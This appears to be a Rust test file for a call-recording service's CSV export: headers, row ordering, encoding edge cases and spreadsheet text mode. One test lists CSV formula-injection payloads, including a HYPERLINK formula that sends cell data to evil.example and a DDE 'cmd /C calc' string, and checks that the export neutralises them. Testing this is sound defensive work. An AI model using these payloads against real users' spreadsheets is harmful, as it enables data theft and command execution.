//! Rows as CSV, read by Python.

use serde_json::Value;

use super::{EXPORT, listed, python, read_csv, zip};
use crate::app::{START, spawn_app};

const HEADER: &str = "start,end,totaltime,talktime,direction,status,snumber,snumber_name,cnumber,cnumber_name,dnumber,\
    dnumber_name,callerid_internal,customer,recordgroup,uniqueid,recordid,callid,asteriskid,machine,stype,snumber_display,\
    scustomer,ctype,cnumber_display,dtype,dnumber_display,dcustomer,spresent,complete,expires,stale,mimetype,size,path,hold";

#[test]
fn the_csv_is_as_the_contract_says() {
    let app = spawn_app();
    let answer = app.supervisor().get(&format!("{EXPORT}?recordgroup=1;limit=1;timezone=Europe/Berlin"));
    let row = "2023-11-14T23:13:20+01:00,2023-11-14T23:14:25+01:00,65,60,in,answer,+49 30 1,\"Zoë \"\"Z\"\" Ångström\",100,\
        Front\tdesk\\,101,前台,0301,1,1,a,1,call-a,pbx,tape1,external,030 1,0,queue,100,extension,1-01,1,0,1,\
        2027-01-15T09:00:00+01:00,1,audio/x-wav,9007199254740993,a/a.wav,1";
    assert_eq!(answer.text(), format!("\u{feff}{HEADER}\r\n{row}\r\n"));
    let today = python(
        "import datetime, zoneinfo; print(datetime.datetime.now(zoneinfo.ZoneInfo('Europe/Berlin')).date())",
        &[],
        "",
    );
    let name = format!("attachment; filename=\"recordings {}.csv\"", today.ok().trim());
    for (header, value) in [
        ("content-type", "text/csv; charset=utf-8"),
        ("content-disposition", name.as_str()),
        ("cache-control", "no-store"),
        ("x-content-type-options", "nosniff"),
        ("content-security-policy", "sandbox"),
        ("referrer-policy", "no-referrer"),
    ] {
        assert_eq!(answer.header(header), Some(value), "{header}");
    }
    let nothing = app.supervisor().get(&format!("{EXPORT}?called=none-such"));
    assert_eq!(nothing.text(), format!("\u{feff}{HEADER}\r\n"));
}

#[test]
fn the_csv_of_every_list_holds_its_rows_in_its_order() {
    let app = spawn_app();
    for query in [
        "",
        "customer=1",
        "recordgroup=3;complete=-1",
        "complete=0",
        "start=1700000100;end=1700000200",
        "called=10",
        "caller=anna",
        "answered=101",
        "search=zo%C3%AB",
        "totaltime_minimum=30;totaltime_maximum=65",
        "direction=out",
        "status=answer",
        "hold=1;complete=-1",
        "sort=cnumber;complete=-1",
        "sort=totaltime;descending=1",
        "sort=expires;descending=1;limit=2;offset=1",
        "descending=1;limit=3",
        "offset=9",
        "end=9000000000",
    ] {
        let (sara, rows) = (app.supervisor(), listed(&app.supervisor(), query));
        assert_eq!(
            read_csv(&sara.get(&format!("{EXPORT}?{query};timezone=Asia/Kolkata")).text()),
            rows,
            "{query}"
        );
        assert_eq!(read_csv(&sara.post(EXPORT, query).text()), rows, "{query}");
        let index = zip(&sara, query).index;
        let names = |value: &Value| {
            let rows = value.as_array().expect("rows").iter();
            rows.map(|row| row["uniqueid"].clone()).collect::<Vec<_>>()
        };
        assert_eq!(names(&index), names(&rows), "{query}");
    }
}

#[test]
fn whatever_a_value_holds_it_comes_back_and_is_no_formula() {
    let app = spawn_app();
    let values = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "'quoted",
        "''",
        "a\"b,c;d",
        "Acme;=HYPERLINK(A1&B1);x",
        "a;\"=1\",-1\t@x;'b",
        "line\r\nline\nline\rline",
        "gnp.\u{202e}vaw",
        "  blanks  ",
        "+972501234567",
        "\u{feff}mark",
        "🦀",
        "\\",
    ];
    let rows: Vec<String> = values
        .iter()
        .enumerate()
        .map(|(index, value)| {
            let hex: String = value.bytes().map(|byte| format!("{byte:02x}")).collect();
            format!(
                "(1, 2, 'h{index}', '1', {}, 1, CAST(x'{hex}' AS TEXT), CAST(x'{hex}' AS TEXT), CAST(x'{hex}' AS TEXT))",
                START + 1000
            )
        })
        .collect();
    app.sqlite3(&format!(
        "INSERT INTO recordings (customer, recordgroup, uniqueid, recordid, start, complete, snumber, cnumber_name, path)
           VALUES {};",
        rows.join(", ")
    ));
    let query = "recordgroup=2;start=1700001000";
    let answer = app.supervisor().get(&format!("{EXPORT}?{query}"));
    assert_eq!(read_csv(&answer.text()), listed(&app.supervisor(), query));
    // However it is opened.
    let script = "import csv, sys\nsys.stdin.reconfigure(encoding='utf-8-sig', newline='')\ntext = sys.stdin.read()\n\
        print({cell for by in ',;\\t' for row in csv.reader(text.splitlines(True), delimiter=by) for cell in row\n\
            if cell[:1] in tuple('=+-@＝')})";
    for separator in ["comma", "semicolon", "tab"] {
        let text = app.supervisor().get(&format!("{EXPORT}?{query};separator={separator}")).text();
        let found = python(script, &[], &text).ok();
        let is_number = |cell: &str| cell.chars().all(|sign| "{}', +0123456789".contains(sign));
        assert!(found.trim().split("', '").all(is_number), "{separator}: {found}");
    }
    let unpacked = zip(&app.supervisor(), query);
    assert_eq!(unpacked.names(), ["index.csv"]);
    assert!(unpacked.column("missing").iter().all(|why| *why == "its sound is not there or cannot be read"));
}

#[test]
fn what_another_program_stored_is_what_a_list_shows() {
    let app = spawn_app();
    app.sqlite3(
        "INSERT INTO recordings (customer, recordgroup, uniqueid, recordid, start, complete, snumber, cnumber, talktime,
           expires) VALUES
           (1, 2, 'p', '1', 1700000900, 1, CAST(x'61ff62' AS TEXT), x'c328', 'ten', -1),
           (1, 2, 'q', '1', 1700000901, 1, 'a' || char(0) || 'b', 17, 1.5, 9223372036854775807),
           (1, 2, 'r', '1', -62135596800, 1, 5.5, '', 0, 253402300800);",
    );
    for query in ["recordgroup=2;start=1700000900", "recordgroup=2;start=0", "recordgroup=2"] {
        let text = app.supervisor().get(&format!("{EXPORT}?{query};timezone=America/St_Johns")).text();
        // Python's csv took no NUL before 3.11.
        let expected = listed(&app.supervisor(), query).to_string().replace("\\u0000", "");
        let expected: Value = serde_json::from_str(&expected).expect("JSON");
        assert_eq!(read_csv(&text.replace('\0', "")), expected, "{query}");
        assert!(text.contains("a\0b"));
    }
}

#[test]
fn a_table_has_the_separator_and_the_texts_that_a_spreadsheet_keeps() {
    let app = spawn_app();
    app.sqlite3("UPDATE recordings SET uniqueid = '1700000000.290', snumber = '0012', cnumber = '+972501234567' WHERE id = 11");
    let sara = app.supervisor();
    for (separator, sign) in [("semicolon", ';'), ("tab", '\t'), ("comma", ',')] {
        let text = sara.get(&format!("{EXPORT}?recordgroup=1;limit=1;text=1;separator={separator}")).text();
        assert!(
            text.starts_with(&format!("\u{feff}{}\r\n", HEADER.replace(',', &sign.to_string()))),
            "{text}"
        );
        for number in ["1700000000.290", "0012", "+972501234567"] {
            assert!(text.contains(&format!("{sign}\"=\"\"{number}\"\"\"{sign}")), "{number}: {text}");
        }
        assert!(
            text.contains("\"Zoë \"\"Z\"\" Ångström\"") && text.contains(&format!("{sign}65{sign}")),
            "{text}"
        );
    }
    let index = zip(&sara, "recordgroup=1;limit=1;text=1");
    assert!(index.text("index.csv").contains(",\"=\"\"0012\"\"\","));
    for (query, codes) in
        [("separator=x", "400 separator"), ("separator=;text=2", "400 text"), ("separator=", "")]
    {
        let answer = sara.get(&format!("{EXPORT}?{query}"));
        if codes.is_empty() { assert_eq!(answer.status, 200) } else { assert_eq!(answer.codes(), codes) }
    }
}
